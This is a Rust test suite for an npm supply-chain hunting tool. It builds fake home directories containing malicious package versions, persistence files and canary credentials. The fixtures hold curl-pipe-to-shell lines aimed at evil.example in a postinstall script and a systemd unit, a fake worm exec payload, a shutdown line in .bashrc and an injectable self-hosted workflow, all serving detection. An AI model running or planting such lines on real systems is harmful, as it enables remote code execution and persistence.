//! End-to-end sweeps of realistic trees built in temporary directories: a home
//! with projects of every package manager, caches in their real layouts,
//! persistence and credential files with canary values, and every kind of
//! filesystem damage hunt must survive.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use palisade_advisory::Database;
use palisade_hunt::{hunt, Evidence, HuntOptions, HuntReport, Indicators};
use sha2::{Digest, Sha256};

const CANARY: &str = "npm_CANARYhunt0000000000000000000000000";
const LOCKFILES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../palisade-lockfile/tests/fixtures/real");

fn write(path: &Path, contents: impl AsRef<[u8]>) {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).expect("create parent");
    }
    fs::write(path, contents).expect("write file");
}

fn package(dir: &Path, name: &str, version: &str) {
    write(
        &dir.join("package.json"),
        serde_json::json!({"name": name, "version": version}).to_string(),
    );
    write(&dir.join("index.js"), "module.exports = 1;\n");
}

#[cfg(unix)]
fn symlink(target: &str, link: &Path) {
    std::os::unix::fs::symlink(target, link).expect("symlink");
}

fn run(root: &Path, ioc: Option<&str>) -> HuntReport {
    let mut files = Vec::new();
    let dir = tempfile::tempdir().expect("tempdir");
    if let Some(ioc) = ioc {
        let file = dir.path().join("iocs.txt");
        write(&file, ioc);
        files.push(file);
    }
    let indicators = Indicators::load(Some(Database::baseline().expect("baseline")), &files).expect("indicators");
    let options = HuntOptions {
        roots: vec![root.to_path_buf()],
        threads: 2,
        ..HuntOptions::default()
    };
    hunt(&options, &indicators).expect("hunt runs")
}

fn hits<'a>(report: &'a HuntReport, name: &str, evidence: Evidence) -> Vec<&'a palisade_hunt::Hit> {
    report
        .hits
        .iter()
        .filter(|h| h.evidence == evidence && h.package.as_ref().is_some_and(|p| p.name == name))
        .collect()
}

/// A home directory with one of everything.
fn build_home(home: &Path) {
    // npm project: chalk 5.6.1 (malicious, September 2025) nested two levels down.
    let app = home.join("code/app-npm");
    package(&app, "app-npm", "1.0.0");
    package(&app.join("node_modules/left-pad"), "left-pad", "1.3.0");
    package(&app.join("node_modules/@babel/core"), "@babel/core", "7.24.0");
    package(&app.join("node_modules/left-pad/node_modules/chalk"), "chalk", "5.6.1");
    // pnpm project: @ctrl/tinycolor 4.1.1 (Shai-Hulud) in the virtual store, linked from the top.
    let pnpm = home.join("code/app-pnpm");
    package(&pnpm, "app-pnpm", "1.0.0");
    let store = pnpm.join("node_modules/.pnpm/@ctrl+tinycolor@4.1.1/node_modules/@ctrl/tinycolor");
    package(&store, "@ctrl/tinycolor", "4.1.1");
    fs::create_dir_all(pnpm.join("node_modules/@ctrl")).expect("mkdir");
    symlink(
        "../.pnpm/@ctrl+tinycolor@4.1.1/node_modules/@ctrl/tinycolor",
        &pnpm.join("node_modules/@ctrl/tinycolor"),
    );
    // yarn classic project that locks debug 4.4.2 but has nothing installed.
    write(
        &home.join("code/app-yarn/yarn.lock"),
        "# yarn lockfile v1\n\n\ndebug@^4.4.0:\n  version \"4.4.2\"\n  resolved \"https://registry.yarnpkg.com/debug/-/debug-4.4.2.tgz\"\n  integrity sha512-AAAA\n",
    );
    // npm's cache: a real-format index bucket for the chalk tarball.
    let entry = serde_json::json!({
        "key": "make-fetch-happen:request-cache:https://registry.npmjs.org/chalk/-/chalk-5.6.1.tgz",
        "integrity": "sha512-AAAA", "time": 1_757_346_000_000i64, "size": 44000,
        "metadata": {"time": 1_757_346_000_000i64, "url": "https://registry.npmjs.org/chalk/-/chalk-5.6.1.tgz",
                     "reqHeaders": {}, "resHeaders": {}, "options": {"compress": true}}
    });
    write(
        &home.join(".npm/_cacache/index-v5/3f/a1/8e0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f"),
        format!("\n0123456789abcdef0123456789abcdef01234567\t{entry}"),
    );
    // The real buckets of `npm cache add is-number@7.0.0 @types/node@20.0.0`: benign.
    copy_dir(
        Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/cacache/index-v5")),
        &home.join(".npm/_cacache/index-v5"),
    );
    // yarn berry global cache, pnpm 10 store index, bun cache, yarn classic cache.
    write(
        &home.join(".yarn/berry/cache/debug-npm-4.4.2-8b5c2a1e3f-2d9e6a4c1b.zip"),
        b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
    );
    write(
        &home.join(".local/share/pnpm/store/v10/index/6f/2c1d3e4f5a6b7c8d9e-@ctrl+tinycolor@4.1.2.json"),
        r#"{"name":"@ctrl/tinycolor","version":"4.1.2","files":{}}"#,
    );
    // pnpm 8 store: the index names no package; its package.json is content-addressed.
    let manifest = br#"{"name":"color-convert","version":"3.1.1"}"#;
    let digest = sha2::Sha512::digest(manifest);
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    let files = home.join(".local/share/pnpm/store/v3/files");
    write(&files.join(&hex[..2]).join(&hex[2..]), manifest);
    let integrity = format!(
        "sha512-{}",
        base64::Engine::encode(&base64::engine::general_purpose::STANDARD, digest)
    );
    write(
        &files.join("9c/0a1b2c3d4e5f60718293a4b5c6d7e8f9-index.json"),
        serde_json::json!({"files": {"package.json": {"checkedAt": 1, "integrity": integrity, "mode": 420, "size": 42}}})
            .to_string(),
    );
    package(
        &home.join(".bun/install/cache/ansi-regex@6.2.1@@@1"),
        "ansi-regex",
        "6.2.1",
    );
    package(
        &home.join(".cache/yarn/v6/npm-strip-ansi-7.1.1-0123abcd-integrity/node_modules/strip-ansi"),
        "strip-ansi",
        "7.1.1",
    );
}

fn copy_dir(from: &Path, to: &Path) {
    for entry in fs::read_dir(from).expect("read fixture dir") {
        let entry = entry.expect("entry");
        let target = to.join(entry.file_name());
        if entry.file_type().expect("type").is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            write(&target, fs::read(entry.path()).expect("read fixture"));
        }
    }
}

#[test]
fn finds_installed_locked_and_cached_versions_with_times_and_projects() {
    let dir = tempfile::tempdir().expect("tempdir");
    let home = dir.path();
    build_home(home);
    let report = run(home, None);

    let installed = hits(&report, "chalk", Evidence::Installed);
    assert_eq!(installed.len(), 1, "{:#?}", report.hits);
    assert!(installed[0]
        .path
        .ends_with("code/app-npm/node_modules/left-pad/node_modules/chalk"));
    assert_eq!(installed[0].indicator, "MAL-2025-46969");
    assert_eq!(installed[0].indicator_source, "advisory-database");
    assert!(installed[0]
        .project
        .as_deref()
        .is_some_and(|p| p.ends_with("code/app-npm")));
    assert!(installed[0].observed_at.is_some(), "install folder mtime");

    let pnpm = hits(&report, "@ctrl/tinycolor", Evidence::Installed);
    assert!(
        pnpm.iter().any(|h| h
            .path
            .contains(".pnpm/@ctrl+tinycolor@4.1.1/node_modules/@ctrl/tinycolor")),
        "{pnpm:#?}"
    );

    let locked = hits(&report, "debug", Evidence::Locked);
    assert_eq!(locked.len(), 1);
    assert!(locked[0].path.ends_with("code/app-yarn/yarn.lock"));

    let cached_chalk = hits(&report, "chalk", Evidence::Cached);
    assert_eq!(cached_chalk.len(), 1);
    // The cache's own fetch time, not the file's.
    assert_eq!(cached_chalk[0].observed_at.as_deref(), Some("2025-09-08T15:40:00Z"));
    assert!(cached_chalk[0]
        .detail
        .as_deref()
        .is_some_and(|d| d.contains("chalk-5.6.1.tgz")));
    assert_eq!(hits(&report, "debug", Evidence::Cached).len(), 1, "yarn berry zip");
    assert_eq!(
        hits(&report, "@ctrl/tinycolor", Evidence::Cached).len(),
        1,
        "pnpm store"
    );
    assert_eq!(hits(&report, "ansi-regex", Evidence::Cached).len(), 1, "bun cache");
    assert_eq!(
        hits(&report, "color-convert", Evidence::Cached).len(),
        1,
        "pnpm 8 store"
    );
    assert_eq!(
        hits(&report, "strip-ansi", Evidence::Cached).len(),
        1,
        "yarn classic cache"
    );
    // Benign packages are seen but not reported.
    assert!(hits(&report, "left-pad", Evidence::Installed).is_empty());
    assert!(hits(&report, "is-number", Evidence::Cached).is_empty());

    // Per-root summary and project list.
    let summary = &report.root_summaries[0];
    assert_eq!(summary.hits as usize, report.hits.len());
    assert!(summary.node_modules_trees >= 3, "{summary:?}");
    assert_eq!(summary.lockfiles, 1);
    assert!(summary.cache_entries >= 10, "{summary:?}");
    assert!(report.files_scanned > 20);
    let npm_project = report
        .projects
        .iter()
        .find(|p| p.project.ends_with("code/app-npm"))
        .expect("project listed");
    assert!(npm_project.installed);
    let yarn_project = report
        .projects
        .iter()
        .find(|p| p.project.ends_with("code/app-yarn"))
        .expect("project listed");
    assert_eq!(yarn_project.lockfiles.len(), 1);
    assert!(report.found_anything());
    assert_eq!(
        report.problems.total(),
        0,
        "{:?} {:?}",
        report.problems,
        report.warnings
    );
}

#[test]
fn real_lockfiles_of_every_format_are_exposure() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let fixtures = [
        ("npm/npm-cli.3.json", "package-lock.json"),
        ("npm/atom.1.json", "package-lock.json"),
        ("yarn/truffle.v1.lock", "yarn.lock"),
        ("yarn/babel.berry-v10.lock", "yarn.lock"),
        ("pnpm/vite.v9.yaml", "pnpm-lock.yaml"),
        ("pnpm/windicss.v5.yaml", "pnpm-lock.yaml"),
        ("bun/hono.lock", "bun.lock"),
    ];
    let mut ioc = String::new();
    let mut expected = Vec::new();
    for (index, (fixture, name)) in fixtures.iter().enumerate() {
        let target = root.join(format!("project-{index}")).join(name);
        write(&target, fs::read(Path::new(LOCKFILES).join(fixture)).expect("fixture"));
        let inventory = palisade_lockfile::extract_file(&target).expect("fixture parses");
        // A package of this lockfile, picked from the middle, declared bad.
        let picked = &inventory.packages[inventory.packages.len() / 2];
        ioc.push_str(&format!("{}@{}\n", picked.name, picked.version));
        expected.push((target, picked.id()));
    }
    let report = run(root, Some(&ioc));
    for (lockfile, package) in expected {
        assert!(
            report.hits.iter().any(|h| h.evidence == Evidence::Locked
                && h.path == lockfile.display().to_string()
                && h.package.as_ref() == Some(&package)),
            "{package:?} in {}",
            lockfile.display()
        );
    }
    assert_eq!(report.root_summaries[0].lockfiles, 7);
    assert_eq!(report.problems.unparsed_lockfiles, 0, "{:?}", report.warnings);
}

#[test]
fn file_indicators_name_the_enclosing_package() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let evil = root.join("proj/node_modules/@scope/evil");
    package(&evil, "@scope/evil", "1.0.0");
    let payload = b"// worm payload\nrequire('child_process').exec('trufflehog filesystem /');\n";
    write(&evil.join("bundle.js"), payload);
    write(
        &root.join("proj/package.json"),
        r#"{"name":"proj","scripts":{"postinstall":"node x.js"}}"#,
    );
    let scripted = root.join("other/node_modules/innocent");
    write(
        &scripted.join("package.json"),
        r#"{"name":"innocent","version":"2.0.0","scripts":{"postinstall":"curl https://evil.example/p.sh | sh"}}"#,
    );
    write(
        &root.join("repo/.github/workflows/shai-hulud-workflow.yml"),
        "on: push\n",
    );
    let digest: String = Sha256::digest(payload).iter().map(|b| format!("{b:02x}")).collect();
    let ioc = format!("sha256:{digest}\npath-glob:**/.github/workflows/shai-hulud*.yml\nstring:evil.example\n");
    let report = run(root, Some(&ioc));

    let by_indicator = |prefix: &str| {
        report
            .hits
            .iter()
            .filter(|h| h.evidence == Evidence::File && h.indicator.starts_with(prefix))
            .collect::<Vec<_>>()
    };
    let sha = by_indicator("sha256:");
    assert_eq!(sha.len(), 1);
    assert!(sha[0].path.ends_with("bundle.js"));
    assert_eq!(sha[0].package.as_ref().map(|p| p.name.as_str()), Some("@scope/evil"));
    assert!(sha[0].project.as_deref().is_some_and(|p| p.ends_with("proj")));
    let glob = by_indicator("path-glob:");
    assert_eq!(glob.len(), 1);
    assert!(glob[0].path.ends_with("shai-hulud-workflow.yml"));
    let string = by_indicator("string:");
    assert_eq!(string.len(), 1, "{string:#?}");
    assert!(string[0].summary.contains("scripts.postinstall"));
    assert_eq!(string[0].package.as_ref().map(|p| p.name.as_str()), Some("innocent"));
}

#[test]
fn persistence_and_credentials_are_reported_without_values() {
    let dir = tempfile::tempdir().expect("tempdir");
    let home = dir.path();
    write(
        &home.join(".bashrc"),
        "export PATH=$HOME/bin:$PATH\n. \"$HOME/.cargo/env\"\nsudo shutdown -h 0\n",
    );
    write(&home.join(".zshrc"), "export NVM_DIR=\"$HOME/.nvm\"\n");
    write(
        &home.join(".config/systemd/user/gh-token-monitor.service"),
        "[Service]\nExecStart=/bin/sh -c 'curl -s https://evil.example/m.sh | bash'\n",
    );
    write(
        &home.join(".config/systemd/user/syncthing.service"),
        "[Service]\nExecStart=/usr/bin/syncthing\n",
    );
    write(
        &home.join(".dev-env/.runner"),
        r#"{"agentId": 12, "agentName": "SHA1HULUD", "gitHubUrl": "https://github.com/victim/repo"}"#,
    );
    write(
        &home.join("code/repo/.github/workflows/discussion.yaml"),
        "on: discussion\njobs:\n  x:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n",
    );
    write(&home.join("code/repo/.github/workflows/ci.yml"), "on: push\njobs: {}\n");
    // Credentials, each holding the canary.
    write(
        &home.join(".npmrc"),
        format!("//registry.npmjs.org/:_authToken={CANARY}\n"),
    );
    write(&home.join("code/repo/.npmrc"), "registry=https://registry.npmjs.org/\n");
    write(
        &home.join(".config/gh/hosts.yml"),
        format!("github.com:\n    oauth_token: {CANARY}\n"),
    );
    write(
        &home.join(".aws/credentials"),
        format!("[default]\naws_secret_access_key = {CANARY}\n"),
    );
    write(
        &home.join(".ssh/id_ed25519"),
        format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{CANARY}\n"),
    );
    write(&home.join(".ssh/id_ed25519.pub"), "ssh-ed25519 AAAA user@host\n");
    write(&home.join("code/repo/.env"), format!("NPM_TOKEN={CANARY}\n"));
    write(
        &home.join("code/repo/node_modules/dotenv/.env"),
        format!("X={CANARY}\n"),
    );

    let report = run(home, None);
    let json = serde_json::to_string(&report).expect("serialises");
    assert!(!json.contains(CANARY), "a credential value leaked into the report");

    let kinds: Vec<&str> = report.persistence.iter().map(|p| p.kind.as_str()).collect();
    assert_eq!(
        kinds,
        vec!["systemd-unit", "shell-rc", "runner-registration", "workflow"],
        "{:#?}",
        report.persistence
    );
    assert!(report.persistence.iter().all(|p| p.severity == "high"));
    let credentials: Vec<(&str, String)> = report
        .credentials_at_risk
        .iter()
        .map(|c| {
            (
                c.kind,
                c.path
                    .strip_prefix(&home.display().to_string())
                    .unwrap_or(&c.path)
                    .to_string(),
            )
        })
        .collect();
    for expected in [
        ("npm-token", "/.npmrc"),
        ("github-cli-token", "/.config/gh/hosts.yml"),
        ("aws-credentials", "/.aws/credentials"),
        ("ssh-private-key", "/.ssh/id_ed25519"),
        ("dotenv", "/code/repo/.env"),
    ] {
        assert!(
            credentials
                .iter()
                .any(|(kind, path)| *kind == expected.0 && path == expected.1),
            "{expected:?} not in {credentials:?}"
        );
    }
    assert_eq!(credentials.len(), 5, "{credentials:?}");

    // Response order: isolate, remove persistence, ... rotate last but one.
    let actions: Vec<&str> = report.response.iter().map(|s| s.action.as_str()).collect();
    let position = |needle: &str| actions.iter().position(|a| a.contains(needle)).expect(needle);
    assert!(position("Isolate") < position("Remove persistence"));
    assert!(position("Remove persistence") < position("rotate"));
    assert!(report.response[position("rotate")]
        .details
        .iter()
        .any(|d| d.ends_with("/.aws/credentials")));
}

/// Runs `mkfifo` (no unsafe code in the workspace); false when unavailable.
fn mkfifo(path: &Path) -> bool {
    std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .is_ok_and(|status| status.success())
}

#[cfg(unix)]
#[test]
fn damaged_trees_are_counted_never_fatal_and_never_modified() {
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::fs::PermissionsExt;

    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let modules = root.join("proj/node_modules");
    package(&modules.join("ok"), "ok", "1.0.0");
    package(&modules.join("chalk"), "chalk", "5.6.1");
    write(&modules.join("malformed/package.json"), "{ \"name\": \"malformed\", ");
    let mut huge = String::from("{\"name\":\"huge\",\"version\":\"1.0.0\",\"pad\":\"");
    huge.push_str(&"x".repeat(5 * 1024 * 1024));
    huge.push_str("\"}");
    write(&modules.join("huge/package.json"), huge);
    symlink("../nowhere", &modules.join("broken"));
    symlink("loop-b", &root.join("loop-a"));
    symlink("loop-a", &root.join("loop-b"));
    symlink("..", &root.join("proj/up")); // a directory link back up: not followed
    let non_utf8 = root.join(std::ffi::OsStr::from_bytes(b"proj/caf\xe9"));
    fs::create_dir_all(&non_utf8).expect("non-UTF-8 dir");
    write(
        &non_utf8.join("package-lock.json"),
        "{\"lockfileVersion\": 3, \"packages\": {}}",
    );
    let non_utf8_package = modules.join(std::ffi::OsStr::from_bytes(b"bad\xff"));
    package(&non_utf8_package, "bad", "1.0.0");
    fs::create_dir_all(root.join("proj/fifo-project")).expect("mkdir");
    fs::create_dir_all(modules.join("fifo-pkg")).expect("mkdir");
    let fifo_made = mkfifo(&modules.join("ok/README.md"))
        && mkfifo(&root.join("proj/fifo-project/package-lock.json"))
        && mkfifo(&modules.join("fifo-pkg/package.json"));
    let locked = root.join("proj/locked");
    write(&locked.join("secret.txt"), "x");
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o000)).expect("chmod");
    // Root (CAP_DAC_OVERRIDE) reads through chmod 000: detect it and assert what still holds.
    let permissions_enforced = fs::read_dir(&locked).is_err();

    let before = snapshot(root);
    let report = run(root, None);
    let after = snapshot(root);
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o755)).expect("chmod back");

    assert_eq!(before, after, "hunt modified the tree it swept");
    assert_eq!(
        hits(&report, "chalk", Evidence::Installed).len(),
        1,
        "the sweep went on"
    );
    let problems = &report.problems;
    assert_eq!(problems.malformed_manifests, 1, "{problems:?} {:?}", report.warnings);
    assert_eq!(problems.oversized_files, 1, "{problems:?}");
    assert_eq!(problems.broken_symlinks, 1, "{problems:?}");
    assert_eq!(problems.symlink_loops, 2, "{problems:?}");
    // One outside node_modules, one inside (counted once, not again by the tree walker).
    assert_eq!(problems.non_utf8_paths, 2, "{problems:?}");
    if permissions_enforced {
        assert_eq!(problems.unreadable, 1, "{problems:?} {:?}", report.warnings);
    } else {
        // Running as root: chmod 000 does not stop reads, so the FIFOs below
        // are what proves unreadable special files are survived.
        assert_eq!(problems.unreadable, 0, "{problems:?}");
        assert!(fifo_made, "mkfifo is needed to test unreadable files as root");
    }
    if fifo_made {
        // A FIFO is never opened (it would block the sweep, so finishing at all
        // is part of the test): counted instead, the package.json one once.
        assert_eq!(problems.special_files, 3, "{problems:?}");
        assert!(report
            .warnings
            .iter()
            .any(|w| w.contains("fifo-pkg/package.json") && w.contains("not a regular file")));
    }
    assert!(
        report.warnings.iter().any(|w| w.contains("malformed")),
        "{:?}",
        report.warnings
    );
    // The lockfile under the non-UTF-8 folder was still read.
    assert!(report.root_summaries[0].lockfiles >= 1);
}

/// Every path with its size and modification time, and file contents' hashes.
fn snapshot(root: &Path) -> BTreeMap<PathBuf, (u64, Option<std::time::SystemTime>, Vec<u8>)> {
    let mut out = BTreeMap::new();
    let mut pending = vec![root.to_path_buf()];
    while let Some(dir) = pending.pop() {
        let Ok(entries) = fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            let path = entry.path();
            let Ok(metadata) = fs::symlink_metadata(&path) else {
                continue;
            };
            let digest = if metadata.is_file() {
                fs::read(&path)
                    .map(|bytes| Sha256::digest(bytes).to_vec())
                    .unwrap_or_default()
            } else {
                Vec::new()
            };
            out.insert(path.clone(), (metadata.len(), metadata.modified().ok(), digest));
            if metadata.is_dir() {
                pending.push(path);
            }
        }
    }
    out
}

#[test]
fn a_clean_tree_has_no_hits_and_no_response() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    package(&root.join("app/node_modules/chalk"), "chalk", "5.6.0");
    package(&root.join("app/node_modules/debug"), "debug", "4.4.1");
    let progress = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
    let indicators = Indicators::load(Some(Database::baseline().expect("baseline")), &[]).expect("indicators");
    let options = HuntOptions {
        roots: vec![root.to_path_buf()],
        progress: Some(progress.clone()),
        ..HuntOptions::default()
    };
    let report = hunt(&options, &indicators).expect("hunt runs");
    // Every entry reaches the progress counter: 4 files and 5 folders (root, app,
    // node_modules, chalk, debug).
    assert_eq!(progress.load(std::sync::atomic::Ordering::Relaxed), 9);
    assert_eq!(report.files_scanned, 4);
    assert!(report.hits.is_empty(), "{:#?}", report.hits);
    assert!(!report.found_anything());
    assert!(report.response.is_empty());
    assert_eq!(report.root_summaries[0].package_locations, 2);
}

#[test]
fn osv_output_is_read_back_as_an_ioc_file() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("home");
    package(&root.join("app/node_modules/evil-pkg"), "evil-pkg", "1.2.3");
    package(&root.join("app/node_modules/@s/worm"), "@s/worm", "0.0.9");
    let first = run(&root, Some("evil-pkg@1.2.3\n@s/worm@<1\n"));
    assert_eq!(first.hits.len(), 2);
    let osv = palisade_hunt::to_osv(&first);
    let records = osv.as_array().expect("a list");
    assert_eq!(records.len(), 2);
    assert_eq!(records[0]["affected"][0]["package"]["ecosystem"], "npm");

    let shared = dir.path().join("shared.json");
    write(&shared, serde_json::to_vec(&osv).expect("json"));
    let indicators = Indicators::load(None, &[shared]).expect("reads our own OSV output");
    let options = HuntOptions {
        roots: vec![root.clone()],
        ..HuntOptions::default()
    };
    let second = hunt(&options, &indicators).expect("hunt");
    let names: Vec<String> = second
        .hits
        .iter()
        .filter_map(|h| h.package.as_ref().map(|p| format!("{}@{}", p.name, p.version)))
        .collect();
    assert_eq!(names, vec!["@s/worm@0.0.9", "evil-pkg@1.2.3"]);
}

/// Artefacts recorded from real pnpm 9 and yarn 4 installs (tests/fixtures/README.md), laid
/// out where the package managers put them.
#[test]
fn real_pnpm_store_and_yarn_cache_artefacts() {
    let fixtures = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures"));
    let dir = tempfile::tempdir().expect("tempdir");
    let home = dir.path();
    copy_dir(&fixtures.join("pnpm9-store"), &home.join(".local/share/pnpm/store"));
    copy_dir(&fixtures.join("projects/pnpm9"), &home.join("code/p1"));
    copy_dir(&fixtures.join("projects/yarn4"), &home.join("code/y1"));
    copy_dir(&fixtures.join("yarn4-cache"), &home.join("code/y1/.yarn/cache"));
    let report = run(home, Some("@sindresorhus/is@4.6.0\nis-number@7.0.0\n"));
    for name in ["@sindresorhus/is", "is-number"] {
        let cached = hits(&report, name, Evidence::Cached);
        assert_eq!(cached.len(), 2, "{name}: pnpm store and yarn cache: {cached:#?}");
        assert!(cached.iter().any(|h| h.path.contains("/store/v3/files/")));
        assert!(cached.iter().any(|h| h.path.contains("/.yarn/cache/")));
        let locked: Vec<&str> = hits(&report, name, Evidence::Locked)
            .iter()
            .map(|h| h.path.rsplit('/').next().unwrap_or_default())
            .collect();
        assert_eq!(locked, vec!["pnpm-lock.yaml", "yarn.lock"], "{name}");
    }
}
